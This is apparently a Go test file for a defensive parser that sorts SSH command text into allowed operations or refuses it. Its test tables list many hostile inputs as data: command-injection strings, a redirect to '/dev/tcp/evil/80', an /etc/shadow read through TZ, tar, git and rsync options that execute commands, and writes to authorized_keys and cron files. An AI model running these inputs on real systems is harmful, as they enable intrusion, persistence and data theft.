package shell

import (
	"fmt"
	"reflect"
	"slices"
	"strings"
	"testing"
	"unicode"

	"github.com/taskgate/taskgate/abi"
)

// brief writes operations one a line: verb, kind and the object's parts.
func brief(st *abi.Statement) []string {
	var list []string
	for i := range st.Operations {
		o := &st.Operations[i]
		s := o.Verb + " " + o.Kind + " " + strings.Join(o.Object, "|")
		if o.Value != "" {
			s += " = " + o.Value
		}
		list = append(list, s)
	}
	return list
}

var posix = Options{Posix: true}

// refused holds that a text is opaque, for a reason that has these words.
func refused(t *testing.T, text, why string) {
	t.Helper()
	for _, o := range []Options{posix, {}} {
		st := Parse(text, o)
		want := []abi.Operation{{Verb: "exec", Kind: abi.KindOpaque, Object: []string{text}}}
		if st.Incomplete == "" || !reflect.DeepEqual(st.Operations, want) || st.Text != text {
			t.Errorf("%q does %v (%s)", text, st.Operations, st.Incomplete)
		} else if !strings.Contains(st.Incomplete, why) {
			t.Errorf("%q: %q does not say %q", text, st.Incomplete, why)
		} else if strings.IndexFunc(st.Incomplete, unicode.IsControl) >= 0 {
			t.Errorf("%q: %q would move a terminal", text, st.Incomplete)
		} else if !strings.Contains(st.Incomplete, ": ") {
			t.Errorf("%q: %q does not say what to do", text, st.Incomplete)
		}
	}
}

func allowed(t *testing.T, text, canonical string, ops ...string) {
	t.Helper()
	st := Parse(text, posix)
	if st.Incomplete != "" {
		t.Errorf("%q: %s", text, st.Incomplete)
		return
	}
	if got := brief(st); !slices.Equal(got, ops) {
		t.Errorf("%q does\n%q, not\n%q", text, got, ops)
	}
	if st.Canonical != canonical {
		t.Errorf("%q is forwarded as\n%s, not\n%s", text, st.Canonical, canonical)
	}
	if st.Protocol != "ssh" || st.Text != text || !st.Writes() {
		t.Errorf("%q: %+v", text, st)
	}
}

func TestCommands(t *testing.T) {
	allowed(t, `systemctl restart web-1`, `'systemctl' 'restart' 'web-1'`, "exec program systemctl|restart|web-1")
	allowed(t, " \tls  -l\t/tmp \n\n", `'ls' '-l' '/tmp'`, "exec program ls|-l|/tmp")
	allowed(t, "ls -l # it's a comment (with `things`)", `'ls' '-l'`, "exec program ls|-l")
	allowed(t, "ls \\\n -l", `'ls' '-l'`, "exec program ls|-l")
	allowed(t, `cat /var/log/x | grep -v 'a|b' | wc -l`, `'cat' '/var/log/x' | 'grep' '-v' 'a|b' | 'wc' '-l'`,
		"exec program cat|/var/log/x", "exec program grep|-v|a|b", "exec program wc|-l")
	allowed(t, `cat a > /tmp/b`, `'cat' 'a' >'/tmp/b'`, "exec program cat|a", "write file /tmp/b")
	allowed(t, `cat </etc/hosts 2>&1 >>/tmp/./b//c`, `'cat' <'/etc/hosts' 2>&1 >>'/tmp/b/c'`, "exec program cat", "read file /etc/hosts", "write file /tmp/b/c")
	allowed(t, `x <>/tmp/f`, `'x' <>'/tmp/f'`, "exec program x", "read file /tmp/f", "write file /tmp/f")
	allowed(t, `LANG=C TZ='Europe/Berlin' date`, `LANG='C' TZ='Europe/Berlin' 'date'`, "setenv environment LANG = C", "setenv environment TZ = Europe/Berlin", "exec program date")
	allowed(t, `echo $'a\tb\'c'`, "'echo' 'a\tb'\\''c'", "exec program echo|a\tb'c")
	allowed(t, `echo 'a
b'`, "'echo' 'a\nb'", "exec program echo|a\nb")
	allowed(t, `git show HEAD~1 a~ b]c ^d e% "$" 'x'$`, `'git' 'show' 'HEAD~1' 'a~' 'b]c' '^d' 'e%' '$' 'x$'`, "exec program git|show|HEAD~1|a~|b]c|^d|e%|$|x$")
	allowed(t, `[ -f /tmp/x ]`, `'[' '-f' '/tmp/x' ']'`, "exec program [|-f|/tmp/x|]")
	allowed(t, `printf '%-5s\n' a`, `'printf' '%-5s\n' 'a'`, `exec program printf|%-5s\n|a`)
	allowed(t, `exit 3`, `'exit' '3'`, "exec program exit|3")
	allowed(t, `rm -- -x`, `'rm' '--' '-x'`, "exec program rm|--|-x")
	st := Parse("cat < /etc/hosts > /tmp/x", posix)
	if st.Operations[0].Effect != abi.EffectUnknown || st.Operations[1].Effect != abi.EffectRead || st.Operations[2].Effect != abi.EffectWrite {
		t.Errorf("effects: %+v", st.Operations)
	}
}

// TestSC07Shells: what a shell would make of its text is known, or it is opaque.
func TestSC07Shells(t *testing.T) {
	for text, why := range map[string]string{
		"ls; id":                     "; would run",
		"ls && id":                   "&& would run",
		"ls || id":                   "|| would run",
		"ls & id":                    "& would leave",
		"ls &":                       "& would leave",
		"ls;":                        "; would run",
		"ls\nid":                     "a new line",
		"ls\r\nid":                   "carriage return",
		"ls \rid":                    "carriage return",
		"ls |& cat":                  "|& is not",
		"ls &> /tmp/x":               "2>&1",
		"ls >& /tmp/x":               "2>&1",
		"ls 10>/tmp/x":               "descriptor",
		"ls 2>&-":                    "2>&1",
		"ls {fd}>/tmp/x":             "quote",
		"(ls)":                       "subshells",
		"{ ls; }":                    "shell's own language",
		"! ls":                       "shell's own language",
		"f() { ls; }":                "subshells",
		"function f { ls; }":         "shell's own language",
		"if true; then id; fi":       "shell's own language",
		"while true; do id; done":    "shell's own language",
		"for x in a; do id; done":    "shell's own language",
		"case a in a) id;; esac":     "shell's own language",
		"time ls":                    "shell's own language",
		"coproc ls":                  "shell's own language",
		"[[ -n x ]]":                 "shell's own language",
		"ls | time id":               "shell's own language",
		"ls | ! id":                  "shell's own language",
		">/tmp/x if true":            "shell's own language",
		"2>/tmp/x if true":           "shell's own language",
		"cat <<x\nid\nx":             "here-document",
		"cat <<-x\nid\nx":            "here-document",
		"cat <<<x":                   "here-string",
		"cat <(id)":                  "runs another command",
		"cat >(id)":                  "runs another command",
		"echo $(id)":                 "$(…)",
		"echo \"$(id)\"":             "$(…)",
		"echo `id`":                  "`…`",
		"echo \"`id`\"":              "`…`",
		"echo $((1+1))":              "arithmetic",
		"echo $[1+1]":                "arithmetic",
		"echo \"$((1+1))\"":          "arithmetic",
		"((1+1))":                    "subshells",
		"let x=1":                    "",
		"echo $HOME":                 "variable",
		"echo ${IFS}x":               "variable",
		"cat${IFS}/etc/passwd":       "variable",
		"echo \"$x\"":                "variable",
		"echo $1":                    "variable",
		"echo $@":                    "variable",
		"echo $?":                    "variable",
		"$x":                         "variable",
		"ls *.log":                   "pattern",
		"ls a?":                      "pattern",
		"ls [ab]":                    "pattern",
		"ls @(a|b)":                  "subshells",
		"ls !(a)":                    "subshells",
		"ls {a,b}":                   "quote",
		"ls {1..3}":                  "quote",
		"ls ~":                       "home directory",
		"ls ~root/x":                 "home directory",
		"ls a=~":                     "home directory",
		"ls a:~":                     "home directory",
		"ls $'a\\x41'":               "$'…'",
		"ls $'\\101'":                "$'…'",
		"ls $'\\u00e4'":              "$'…'",
		"ls $'\\cA'":                 "$'…'",
		"ls $\"x\"":                  "translated",
		"ls a\\\nb":                  "within a word",
		"ls a=\\\n~":                 "within a word",
		"ls 2\\\n>/tmp/x":            "within a word",
		"ls $\\\n(id)":               "$",
		"ls \"$\\\n(id)\"":           "$",
		"ls 'a":                      "not closed",
		"ls \"a":                     "not closed",
		"ls $'a":                     "not closed",
		"ls \\":                      "backslash",
		"ls |":                       "could not be read",
		"| ls":                       "could not be read",
		"ls | | id":                  "could not be read",
		"ls >":                       "could not be read",
		"> /tmp/x":                   "without a command",
		"A=b":                        "without a command",
		"PATH=/tmp ls":               "may change what runs",
		"LD_PRELOAD=/tmp/x ls":       "may change what runs",
		"IFS=x ls":                   "may change what runs",
		"LC_EVIL='a[$(id)]' ls":      "may change what runs",
		"LC_ALL='a[$(id)]' ls":       "language",
		"LC_ALL=/tmp/x ls":           "language",
		"TZ=:/etc/shadow date":       "language",
		"LC_ALL=../x ls":             "language",
		"LANG+=C ls":                 "NAME=VALUE",
		"LANG[0]=C ls":               "pattern",
		"ls > x":                     "whole path",
		"ls > ./x":                   "whole path",
		"ls > '~/x'":                 "whole path",
		"ls > ''":                    "whole path",
		"ls > /tmp/../etc/x":         "goes back",
		"ls > /dev/tcp/evil/80":      "connection",
		"ls < //dev//udp/evil/80":    "connection",
		"eval id":                    "shell itself",
		"'eval' id":                  "shell itself",
		"e'va'l id":                  "shell itself",
		"\\eval id":                  "shell itself",
		"exec id":                    "shell itself",
		". /tmp/x":                   "shell itself",
		"source /tmp/x":              "shell itself",
		"command ls":                 "shell itself",
		"builtin eval id":            "shell itself",
		"alias ls=id":                "shell itself",
		"trap id EXIT":               "shell itself",
		"set -x":                     "shell itself",
		"export A=b":                 "",
		"declare -a 'a[$(id)]=1'":    "",
		"read 'a[$(id)]'":            "shell itself",
		"mapfile -C id -c 1 a":       "shell itself",
		"cd /tmp":                    "shell itself",
		"hash -p /tmp/x ls":          "shell itself",
		"enable -f /tmp/x.so x":      "shell itself",
		"compgen -C id":              "shell itself",
		"jobs -x id":                 "shell itself",
		"wait -p 'a[$(id)]'":         "shell itself",
		"unset 'a[$(id)]'":           "shell itself",
		"history -s x":               "shell itself",
		"fc -e id":                   "shell itself",
		"noglob id":                  "shell itself",
		"- id":                       "shell itself",
		"and id":                     "shell itself",
		"printf -v 'a[$(id)]' x":     "printf",
		"printf %d 'a[$(id)]'":       "printf",
		"printf '%s%d' x LC_ALL":     "printf",
		"printf '%*d' LANG 3":        "printf",
		"test -v 'a[$(id)]'":         "test",
		"[ -v 'a[$(id)]' ]":          "[",
		"[ LC_ALL -eq 1 ]":           "[",
		"test -t 'a[$(id)]'":         "test",
		"exit 'a[$(id)]'":            "exit",
		"'' x":                       "empty",
		"sh -c 'ls; id'":             "within sh -c: ; would run",
		"sh -c 'sh -c \"ls; id\"'":   "within sh -c: within sh -c: ; would run",
		"sh -c 'eval id'":            "shell itself",
		"sh -c ''":                   "empty",
		"sh -c":                      "only sh, bash or dash",
		"sh -c ls x":                 "only sh, bash or dash",
		"bash -lc ls":                "only sh, bash or dash",
		"bash -ec ls":                "only sh, bash or dash",
		"bash --norc -c ls":          "only sh, bash or dash",
		"zsh -c ls":                  "only sh, bash or dash",
		"fish --command ls":          "only sh, bash or dash",
		"fish --init-command=ls":     "only sh, bash or dash",
		"/tmp/sh -c ls":              "only sh, bash or dash",
		"./sh -c ls":                 "only sh, bash or dash",
		"sh -c 'ls > x'":             "whole path",
		"xargs rm":                   "xargs",
		"ls | xargs -n1 rm":          "xargs",
		"/usr/bin/xargs rm":          "xargs",
		"find / -exec id ';'":        "find",
		"find / -execdir id + ":      "find",
		"find / -ok id ';'":          "find",
		"find / -delete":             "find",
		"find / -fprintf /tmp/x %p":  "find",
		"busybox sh":                 "busybox",
		"toybox id":                  "toybox",
		"ssh other id":               "ssh",
		"scp -S /tmp/x a b:":         "scp",
		"scp -oProxyCommand=id a b:": "scp",
		"rsync -e 'sh -c id' a b:":   "rsync",
		"rsync -ae ssh a b:":         "rsync",
		"rsync --rsh=id a b:":        "rsync",
		"rsync --rs id a b:":         "rsync",
		"tar cf /tmp/x --checkpoint=1 --checkpoint-action=exec=id y": "tar",
		"tar cf x --checkpoint-a exec=id y":                          "tar",
		"tar xf x --to-command=id":                                   "tar",
		"tar xf x --to-c=id":                                         "tar",
		"tar -I id -xf x":                                            "tar",
		"tar -xIid -f x":                                             "tar",
		"tar xIf id x":                                               "tar",
		"tar --use-compress-program=id -xf x":                        "tar",
		"tar -F id -cf x y":                                          "tar",
		"git -c core.pager=id log":                                   "git",
		"git -ccore.pager=id log":                                    "git",
		"git --config-env=core.pager=X log":                          "git",
		"git fetch --upload-pack=id x":                               "git",
		"git fetch --upload-p id x":                                  "git",
		"git -C /srv -c core.fsmonitor=id status":                    "git",
		"git clone --config core.fsmonitor=id x":                     "git",
		"git clone -u id x":                                          "git",
		"git clone 'ext::sh -c id'":                                  "git",
		"git grep -Oid x":                                            "git",
		"git rebase -x id":                                           "git",
		"git bisect run id":                                          "git",
		"git submodule foreach id":                                   "git",
		"git --exec-path=/tmp log":                                   "git",
		"doas id":                                                    "doas",
		"su -c id":                                                   "su",
		"/lib64/ld-linux-x86-64.so.2 /tmp/x":                         "ld-linux",
		"sudo -s":                                                    "sudo",
		"sudo -i":                                                    "sudo",
		"sudo -e /etc/x":                                             "sudo",
		"sudo -E id":                                                 "sudo",
		"sudo --user=x -nk id":                                       "sudo",
		"sudo -- A=b id":                                             "sudo",
		"sudo A=b -n id":                                             "sudo",
		"sudo LD_PRELOAD=/tmp/x id":                                  "LD_PRELOAD",
		"sudo xargs rm":                                              "xargs",
		"sudo find / -delete":                                        "find",
		"sudo sh -c 'ls; id'":                                        "; would run",
		"env -S 'sh -c id'":                                          "env",
		"env --split-string='sh -c id'":                              "env",
		"env -C /tmp id":                                             "env",
		"env PATH=/tmp id":                                           "PATH",
		"env BASH_ENV=/tmp/x sh -c id":                               "BASH_ENV",
		"env 'BASH_FUNC_ls%%=() { id; }' ls":                         "name",
		"env =x ls":                                                  "name",
		"nice -n":                                                    "no value",
		"nice --adj=3 id":                                            "nice",
		"nohup --x id":                                               "nohup",
		"nice nice nice nice nice nice nice nice nice id":            "deep",
		"ionice -p 1":                                                "ionice",
		"nice busybox id":                                            "busybox",
		"nice -n 1 -- -x":                                            "name a program",
	} {
		refused(t, text, why)
	}
}

// TestParserRefusesAlone: what flat refuses by its look the parser's tree refuses
// too, as one of them may be wrong.
func TestParserRefusesAlone(t *testing.T) {
	for _, text := range []string{
		"a; b", "a;", "a & b", "a &", "! a", "a && b", "a || b", "a |& b", "(a)", "{ a; }", "if a; then b; fi", "f() { a; }", "time a", "coproc a", "[[ a ]]", "((1))", "let x=1", "export a=b", "a\nb",
		"a $x", "a \"$x\"", "a `b`", "a $(b)", "a \"$(b)\"", "a $((1))", "a <(b)", "a @(b|c)", "a $\"b\"", "a &>/x", "a <<b\nb", "a <<<b", "a >/x$y", "{ a; } >/x", "a | (b)", "x=$y a", "x=(a) b", "x+=y a", "x[0]=y a", "a {fd}>/x",
	} {
		if list, err := commands(text); err == nil {
			t.Errorf("%q: %+v", text, list)
		}
	}
}

func TestSC07Wrappers(t *testing.T) {
	allowed(t, `sudo systemctl restart x`, `'sudo' 'systemctl' 'restart' 'x'`, "exec program sudo|systemctl|restart|x", "exec program systemctl|restart|x")
	allowed(t, `sudo -nu root -H -- nice -n 5 nohup id`, `'sudo' '-nu' 'root' '-H' '--' 'nice' '-n' '5' 'nohup' 'id'`,
		"exec program sudo|-nu|root|-H|--|nice|-n|5|nohup|id", "exec program nice|-n|5|nohup|id", "exec program nohup|id", "exec program id")
	allowed(t, `env A=b C= ls`, `'env' 'A=b' 'C=' 'ls'`, "exec program env|A=b|C=|ls", "setenv environment A = b", "setenv environment C", "exec program ls")
	allowed(t, `env`, `'env'`, "exec program env")
	allowed(t, `env -i - id`, `'env' '-i' '-' 'id'`, "exec program env|-i|-|id", "exec program id")
	allowed(t, `env -u A id`, `'env' '-u' 'A' 'id'`, "exec program env|-u|A|id", "exec program id")
	allowed(t, `env eval x`, `'env' 'eval' 'x'`, "exec program env|eval|x", "exec program eval|x") // a program of that name
	allowed(t, `timeout -k 5 --signal=TERM 10s id -x`, `'timeout' '-k' '5' '--signal=TERM' '10s' 'id' '-x'`, "exec program timeout|-k|5|--signal=TERM|10s|id|-x", "exec program id|-x")
	allowed(t, `nice -10 id`, `'nice' '-10' 'id'`, "exec program nice|-10|id", "exec program id")
	allowed(t, `stdbuf -oL -e 0 id | setsid -f id`, `'stdbuf' '-oL' '-e' '0' 'id' | 'setsid' '-f' 'id'`, "exec program stdbuf|-oL|-e|0|id", "exec program id", "exec program setsid|-f|id", "exec program id")
	allowed(t, `/usr/bin/time -p id`, `'/usr/bin/time' '-p' 'id'`, "exec program /usr/bin/time|-p|id", "exec program id")
	allowed(t, `sh -c 'ls  -l "a b" | wc'`, `'sh' '-c' 'ls -l '\''a b'\'' | wc'`, "exec program ls|-l|a b", "exec program wc")
	allowed(t, `/bin/bash -c 'systemctl restart x'`, `'/bin/bash' '-c' 'systemctl restart x'`, "exec program systemctl|restart|x")
	allowed(t, `sudo sh -c 'cat x >/tmp/y'`, `'sudo' 'sh' '-c' 'cat x >/tmp/y'`, "exec program sudo|sh|-c|cat x >/tmp/y", "exec program cat|x", "write file /tmp/y")
	allowed(t, `sudo bash`, `'sudo' 'bash'`, "exec program sudo|bash", "shell terminal bash")
	// What runs code of its own words is those words: a task lists them exactly.
	allowed(t, `vim '-c:!id' x`, `'vim' '-c:!id' 'x'`, "exec program vim|-c:!id|x")
	allowed(t, `python3 -c 'print(1)'`, `'python3' '-c' 'print(1)'`, "exec program python3|-c|print(1)")
	allowed(t, `awk '{ system("id") }' x`, `'awk' '{ system("id") }' 'x'`, `exec program awk|{ system("id") }|x`)
	allowed(t, `find /var/log -name '*.log' -print0`, `'find' '/var/log' '-name' '*.log' '-print0'`, "exec program find|/var/log|-name|*.log|-print0")
	allowed(t, `tar czf /tmp/x.tgz -C /srv app`, `'tar' 'czf' '/tmp/x.tgz' '-C' '/srv' 'app'`, "exec program tar|czf|/tmp/x.tgz|-C|/srv|app")
	allowed(t, `git -C /srv/app switch -c fix`, `'git' '-C' '/srv/app' 'switch' '-c' 'fix'`, "exec program git|-C|/srv/app|switch|-c|fix")
	// base64 into a shell is a shell.
	allowed(t, `echo aWQ= | base64 -d | sh`, `'echo' 'aWQ=' | 'base64' '-d' | 'sh'`, "exec program echo|aWQ=", "exec program base64|-d", "shell terminal sh")
}

// TestSC05ShellsByExec: a shell that reads what to do from the client is a shell,
// by whatever way it is started.
func TestSC05ShellsByExec(t *testing.T) {
	for _, text := range []string{"bash", "bash -i", "bash --rcfile /tmp/x", "sh", "sh -s", "sh -s a b", "/bin/sh", "zsh", "fish", "bash -l", "bash --login", "bash +x", "/tmp/x/bash", "tcsh", "pwsh",
		"bash /dev/stdin", "bash /dev/fd/0", "sh /proc/self/fd/0", "sh ../../dev/stdin", "sh -", "sh --", "sh -- /dev/stdin", "sh ''", "BASH"} {
		st := Parse(text, posix)
		words := Parse("x "+text, posix).Operations[0].Object[1:]
		if st.Incomplete != "" || len(st.Operations) != 1 || st.Operations[0].Verb != "shell" || st.Operations[0].Kind != abi.KindTerminal || !slices.Equal(st.Operations[0].Object, words) {
			t.Errorf("%q: %q %s", text, brief(st), st.Incomplete)
		}
	}
	allowed(t, "bash /opt/deploy.sh now", `'bash' '/opt/deploy.sh' 'now'`, "exec program bash|/opt/deploy.sh|now")
	allowed(t, "python3", `'python3'`, "exec program python3")
}

// TestSC09ServersByExec: the server of a subsystem is not started past it.
func TestSC09ServersByExec(t *testing.T) {
	refused(t, "internal-sftp", "use sftp")
	refused(t, "/usr/lib/openssh/sftp-server", "use sftp")
	refused(t, "sudo /usr/lib/sftp-server -e", "use sftp")
	refused(t, "exec /usr/lib/openssh/sftp-server", "shell itself")
	refused(t, "sh -c /usr/libexec/sftp-server", "use sftp")
}

// TestSC17Scp: scp's own protocol names files in its stream.
func TestSC17Scp(t *testing.T) {
	for _, text := range []string{"scp -t /tmp", "scp -f /etc/passwd", "scp -r -p -d -t -- /tmp", "scp -v -f x", "scp -tr x", "/usr/bin/scp -pt x", "scp -qrpt x"} {
		refused(t, text, "let scp use sftp")
	}
}

// TestSC18Servers: rsync's server reads paths from its stream, git's from its words.
func TestSC18Servers(t *testing.T) {
	refused(t, "rsync --server -vlogDtpre.iLsfxCIvu . /tmp", "use sftp")
	refused(t, "rsync --server --sender -vlogDtpre.iLsfxCIvu . /etc/shadow", "use sftp")
	refused(t, "rsync --serv . /tmp", "use sftp")
	refused(t, "rsync --daemon", "use sftp")
	allowed(t, "git-upload-pack '/srv/x.git'", "'git-upload-pack' '/srv/x.git'", "exec program git-upload-pack|/srv/x.git")
	allowed(t, "git-receive-pack /srv/x.git", "'git-receive-pack' '/srv/x.git'", "exec program git-receive-pack|/srv/x.git")
}

// TestSC24Redirections: what takes effect later is not merely written.
func TestSC24Redirections(t *testing.T) {
	allowed(t, "echo x >> /home/u/.ssh/authorized_keys", "'echo' 'x' >>'/home/u/.ssh/authorized_keys'", "exec program echo|x", "persist file /home/u/.ssh/authorized_keys")
	allowed(t, "echo x > /etc//cron.d/./y", "'echo' 'x' >'/etc/cron.d/y'", "exec program echo|x", "persist file /etc/cron.d/y")
	allowed(t, "sh -c 'echo x > /root/.bashrc'", "'sh' '-c' 'echo x >/root/.bashrc'", "exec program echo|x", "persist file /root/.bashrc")
	allowed(t, "x <>/etc/crontab", "'x' <>'/etc/crontab'", "exec program x", "read file /etc/crontab", "persist file /etc/crontab")
	allowed(t, "cat < /etc/crontab >/dev/null 2>/dev/null", "'cat' <'/etc/crontab' >'/dev/null' 2>'/dev/null'", "exec program cat", "read file /etc/crontab")
}

// TestSA20NamesAreNoSyntax: whatever stands in a name stays in it.
func TestSA20NamesAreNoSyntax(t *testing.T) {
	for _, name := range []string{"a;id", "$(id)", "`id`", "a\nid", "-oProxyCommand=id", "a'b", "a|id", "a&id", ">x", "#x", "~", "*", "!x", "\\"} {
		st := Parse(Quote([]string{"id", name}), posix)
		if st.Incomplete != "" || !slices.Equal(st.Operations[0].Object, []string{"id", name}) {
			t.Errorf("%q: %q %s", name, brief(st), st.Incomplete)
		}
	}
}

// TestNeverForwarded: some texts go nowhere, whatever a task allows.
func TestNeverForwarded(t *testing.T) {
	for text, why := range map[string]string{
		"ls\x00; id": "NUL", "ls 'a\x00b'": "NUL",
		"ls \xff": "UTF-8", "ls '\xc3'": "UTF-8",
		"": "empty", " \n\t": "empty",
		"ls " + strings.Repeat("a", maxText): "bytes",
	} {
		refused(t, text, why)
		if st := Parse(text, posix); st.Canonical != "" {
			t.Errorf("%.20q is forwarded as %.20q", text, st.Canonical)
		}
	}
	if st := Parse("ls; id", posix); st.Canonical != "ls; id" {
		t.Errorf("an opaque text is forwarded as %q", st.Canonical)
	}
}

// TestDeepAndLong: no text exhausts the stack, and what is long ends somewhere.
func TestDeepAndLong(t *testing.T) {
	deep := func(open string) string { return strings.Repeat(open, maxText/len(open)) }
	for _, open := range []string{"(", "((", "{ ", "$(", "`", "${", "\"$(", "if ", "while ", "! ", "time ", "[[ ", "[[ (", "$((", "<(", ">(", "case x in ", "f() ", "coproc ", "function f ", ">/x if ", ">1 if ", "a|", "|",
		"a | if ", "\\\n(", "a=(", "{a,", "@(", "sh -c ", "nice ", "&&", "<<a\n", "; "} {
		if st := Parse(deep(open), posix); st.Incomplete == "" {
			t.Errorf("%q: %d operations", open, len(st.Operations))
		}
	}
	refused(t, "a "+strings.Repeat("b ", maxWords), "words")
	refused(t, strings.TrimSuffix(strings.Repeat("a|", maxCommands+1), "|"), "commands")
	refused(t, "a \""+strings.Repeat("'", maxText-10)+"\"", "")
	if st := Parse("a \""+strings.Repeat("'", maxText-10)+"\"", posix); !strings.Contains(st.Incomplete, "too long once") {
		t.Error(st.Incomplete)
	}
	if st := Parse(strings.TrimSuffix(strings.Repeat("a|", maxCommands), "|"), posix); st.Incomplete != "" || len(st.Operations) != maxCommands {
		t.Error(st.Incomplete)
	}
	text := "id \"'\""
	for range maxDepth + 1 {
		text = "sh -c " + string(quote(nil, text))
	}
	refused(t, text, "deep")
}

// TestReadAgain: what is forwarded says the same when it is read again.
func TestReadAgain(t *testing.T) {
	for _, text := range []string{
		"ls", "sh -c 'ls \"a b\" | wc' | cat >/tmp/x 2>&1", "LANG=C sudo sh -c \"sh -c 'id x=y' 2>/dev/null\"", "env A='b c' sh -c 'echo \"=x\" %y a%b @c'",
	} {
		again(t, text, posix)
	}
	again(t, "ls -l a=b %x | wc >/tmp/x", Options{})
}

func again(t *testing.T, text string, o Options) {
	t.Helper()
	st := Parse(text, o)
	if st.Incomplete != "" || len(st.Canonical) > maxText {
		return
	}
	two := Parse(st.Canonical, o)
	if two.Incomplete != "" || two.Canonical != st.Canonical || !reflect.DeepEqual(two.Operations, st.Operations) {
		t.Errorf("%q\nis forwarded as\n%q\nwhich is %q, %q, not %q (%s)", text, st.Canonical, two.Canonical, brief(two), brief(st), two.Incomplete)
	}
}

func FuzzParse(f *testing.F) {
	for _, text := range []string{
		"systemctl restart web-1", "cat a | grep 'b c' > /tmp/x 2>&1", "sh -c 'ls; id'", "sudo -u root sh -c \"cat '/x'\"", "LANG=C env A=b nice -n 5 ls", "echo $'a\\'b' \"$x\" `id`",
		"ls \\\n -l # x", "a<<b\nc\nb", "{ a; }", "[ -f x ]", "$\\\n(id)", "a |\\\n| b", ">&2 echo", "x 2>'/a' <>/b >|/c", "((a); b)", "time -- x", "printf %d 3", "a=~ b", "\"a\\\nb\"", "a\\", "é 'ü'",
	} {
		f.Add(text, true)
		f.Add(text, false)
	}
	f.Fuzz(func(t *testing.T, text string, posix bool) {
		o := Options{Posix: posix}
		st := Parse(text, o)
		if st.Incomplete != "" {
			if len(st.Operations) != 1 || st.Operations[0].Kind != abi.KindOpaque || st.Operations[0].Object[0] != text || st.Canonical != "" && st.Canonical != text {
				t.Fatalf("%+v", st)
			}
			return
		}
		if len(st.Operations) == 0 || st.Canonical == "" {
			t.Fatalf("%q does nothing", text)
		}
		again(t, text, o)
	})
}

func BenchmarkParse(b *testing.B) {
	for _, text := range []string{"systemctl restart web-1", "sudo -u deploy sh -c 'cat /var/log/web/error.log | grep -v \"GET /health\"' 2>&1 > /tmp/out", "ls $(id)"} {
		b.Run(fmt.Sprint(len(text)), func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				Parse(text, posix)
			}
		})
	}
}
